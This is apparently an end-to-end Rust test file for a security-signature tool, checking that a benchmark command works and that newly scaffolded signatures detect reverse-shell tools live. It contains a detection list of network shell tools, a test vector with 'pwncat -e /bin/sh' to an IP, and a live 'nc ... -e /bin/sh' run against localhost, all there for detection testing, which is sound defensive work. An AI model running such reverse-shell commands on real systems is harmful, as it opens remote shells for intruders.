//! The author's tools beside `sigbox test` (vectors.rs): `sigbox bench` on
//! the author's own recorded events.

use sigbox_e2e::{fixture, module, sigbox, temp_dir, text};

#[test]
fn bench_measures_a_module_on_recorded_events() {
    let out = sigbox(&[
        "bench",
        module("trc-105").to_str().unwrap(),
        "2000",
        "--events",
        fixture("exec-pack-cases.jsonl").to_str().unwrap(),
    ]);
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}{}", text(&out.stderr));
    let row = stdout
        .lines()
        .find(|l| l.contains("exec-pack-cases.jsonl (21 recorded events)"))
        .unwrap_or_else(|| panic!("no recorded-events row:\n{stdout}"));
    // 2000 events cycle the 21 cases: 95 full rounds of 4 TRC-105 matches,
    // then the first 5 cases, 3 of which match; all are exec events, which
    // TRC-105 selects without filters, so all reach the guest. Case 21 has
    // no `pathname`: an error for TRC-105 (as Tracee's
    // GetStringArgumentByName), once per round.
    let columns: Vec<&str> = row.split_whitespace().collect();
    assert_eq!(columns[columns.len() - 3], "2000", "{row}");
    assert_eq!(columns[columns.len() - 2], "383", "{row}");
    assert_eq!(columns[columns.len() - 1], "95", "{row}");
    assert!(!stdout.contains("(synthetic)"), "{stdout}");
    assert!(!stdout.contains("warning"), "{stdout}");

    // Recorded events the module does not select: the host skips them all,
    // and the report says so instead of only a huge events/s.
    let unselected = temp_dir("bench-unselected").join("openat.jsonl");
    std::fs::write(
        &unselected,
        concat!(
            r#"{"eventName":"openat","processName":"cat","args":[{"name":"pathname","type":"string","value":"/etc/passwd"}]}"#,
            "\n"
        ),
    )
    .unwrap();
    let out = sigbox(&[
        "bench",
        module("trc-105").to_str().unwrap(),
        "1000",
        "--events",
        unselected.to_str().unwrap(),
    ]);
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}{}", text(&out.stderr));
    let row = stdout
        .lines()
        .find(|l| l.contains("openat.jsonl (1 recorded events)"))
        .unwrap_or_else(|| panic!("no recorded-events row:\n{stdout}"));
    let columns: Vec<&str> = row.split_whitespace().collect();
    assert_eq!(columns[columns.len() - 3], "0", "{row}");
    assert!(
        stdout.contains("warning: none of the 1000 events of")
            && stdout.contains("reached the guest: the module selects sched_process_exec"),
        "{stdout}"
    );

    let bad = temp_dir("bench-events").join("bad.jsonl");
    std::fs::write(&bad, "{\"eventName\":\"sched_process_exec\"}\n\nnot json\n").unwrap();
    let out = sigbox(&[
        "bench",
        module("trc-105").to_str().unwrap(),
        "--events",
        bad.to_str().unwrap(),
    ]);
    let stderr = text(&out.stderr);
    assert!(!out.status.success());
    assert!(
        stderr.contains("bad.jsonl:3: not a Tracee event"),
        "{stderr}"
    );
}

/// From an empty directory: `sigbox new`, `make test` (build and vectors,
/// with the `sigbox` on PATH), then the module copied atomically into a
/// running daemon's directory, as the project's README says, and a live
/// finding from Debian's real `nc` (`/usr/bin/nc` → `nc.openbsd`).
fn new_project_to_a_live_finding(name: &str, lang: &str) {
    // `--dir` is the project's directory itself.
    let project = temp_dir("author-new").join("my-signature");
    let out = sigbox(&[
        "new",
        name,
        "--lang",
        lang,
        "--dir",
        project.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(project.join("Makefile").is_file(), "{}", text(&out.stdout));
    let id = name.to_ascii_uppercase();
    let readme = std::fs::read_to_string(project.join("README.md")).unwrap();
    let atomic_copy =
        format!("cp {name}.wasm DIR/.{name}.wasm.tmp && mv DIR/.{name}.wasm.tmp DIR/{name}.wasm");
    assert!(readme.contains(&atomic_copy), "{readme}");

    // The author's edit: one more tool, and a vector saying it must be found.
    let (source, list) = match lang {
        "rust" => (
            "src/lib.rs",
            r#"const TOOLS: [&str; 4] = ["nc", "ncat", "netcat", "socat"];"#,
        ),
        _ => ("app.py", r#"TOOLS = ["nc", "ncat", "netcat", "socat"]"#),
    };
    let code = std::fs::read_to_string(project.join(source)).unwrap();
    assert!(code.contains(list), "the example changed: update this test");
    let edited = list
        .replace("4]", "5]")
        .replace(r#""socat"]"#, r#""socat", "pwncat"]"#);
    std::fs::write(project.join(source), code.replace(list, &edited)).unwrap();
    let vectors = project.join(format!("vectors/{name}.jsonl"));
    let mut cases = std::fs::read_to_string(&vectors).unwrap();
    cases.push_str(concat!(
        r#"{"case":"pwncat -e","event":{"eventName":"sched_process_exec","args":["#,
        r#"{"name":"pathname","type":"const char*","value":"/usr/local/bin/pwncat"},"#,
        r#"{"name":"argv","type":"const char**","value":["pwncat","-e","/bin/sh","10.0.0.1"]}]},"#,
        r#""expect":{"findings":[{"tool":"pwncat"}]}}"#,
        "\n"
    ));
    std::fs::write(&vectors, cases).unwrap();

    let make = std::process::Command::new("make")
        .args(["-C", project.to_str().unwrap(), "test"])
        // The guest build's target directory: std (built from source on the
        // Debian toolchain) is reused instead of rebuilt for minutes.
        .env(
            "CARGO_TARGET_DIR",
            sigbox_e2e::repo_root().join("guest-signatures/target"),
        )
        // The daemon below then loads the module from this compile cache.
        .env("SIGBOX_CACHE_DIR", sigbox_e2e::cache_dir())
        // The project names no sigbox of its own: the one on PATH runs.
        .env_remove("SIGBOX")
        .env("PATH", path_with_sigbox())
        .output()
        .expect("running make");
    let stdout = text(&make.stdout);
    assert!(
        make.status.success(),
        "make test failed:\n{stdout}{}",
        text(&make.stderr)
    );
    assert!(
        stdout.contains(&format!("{id} ({name}.wasm): 10 passed, 0 failed")),
        "{stdout}"
    );

    // Live: an empty signatures directory, then the new module dropped in.
    let signatures = temp_dir("author-live");
    let Some(daemon) = crate::live::start_live(&signatures) else {
        return;
    };
    // The daemon runs only modules its trust policy admits: the author
    // signs the build with a key it lists (here make's development key).
    let module = format!("{name}.wasm");
    sigbox_e2e::sign(&project.join(&module));
    // The README's atomic copy: a hidden name in the directory, then a rename.
    let hidden = signatures.join(format!(".{module}.tmp"));
    std::fs::copy(project.join(&module), &hidden).unwrap();
    std::fs::rename(&hidden, signatures.join(&module)).unwrap();
    // A Python module is an 18 MB component: compiling it took 96 s alone
    // on a busy 2-core machine, and over 120 s at load 14.
    assert!(
        daemon.wait_for_stderr(
            std::time::Duration::from_secs(300),
            &format!("loaded signature {id}")
        ),
        "{}",
        daemon.stderr_text()
    );
    // The real tool: Debian's `nc` is a symlink to nc.openbsd, so the
    // kernel runs /usr/bin/nc.openbsd with argv[0] "nc". OpenBSD's nc has
    // no -e: it refuses the option and exits without touching the network.
    assert!(
        std::fs::canonicalize("/usr/bin/nc").is_ok_and(|p| p.ends_with("nc.openbsd")),
        "/usr/bin/nc must be Debian's netcat-openbsd (make installs it)"
    );
    let mut child = std::process::Command::new("nc")
        .args(["127.0.0.1", "9", "-e", "/bin/sh"])
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("running nc");
    let pid = child.id();
    child.wait().unwrap();
    let seen = daemon.wait_for_stdout(std::time::Duration::from_secs(60), |lines| {
        !crate::pack_live::findings(lines, &id, pid).is_empty()
    });
    let stopped = daemon.stop();
    assert!(seen, "no live {id} finding for nc:\n{}", stopped.stderr);
    let finding = crate::pack_live::findings(&stopped.stdout, &id, pid).remove(0);
    let args = finding["args"].as_array().unwrap();
    let arg = |name: &str| args.iter().find(|a| a["name"] == name).map(|a| &a["value"]);
    assert_eq!(arg("tool"), Some(&serde_json::json!("nc")), "{finding}");
    let event = arg("detectedFrom").unwrap().to_string();
    assert!(
        event.contains("/usr/bin/nc.openbsd"),
        "the kernel ran nc.openbsd: {finding}"
    );
}

/// PATH with the directory of the `sigbox` under test first.
fn path_with_sigbox() -> String {
    let bin = sigbox_e2e::sigbox_bin();
    format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    )
}

#[test]
fn a_new_rust_project_builds_passes_its_vectors_and_detects_live() {
    new_project_to_a_live_finding("revshell", "rust");
}

#[test]
fn a_new_python_project_builds_passes_its_vectors_and_detects_live() {
    new_project_to_a_live_finding("pyshell", "python");
}
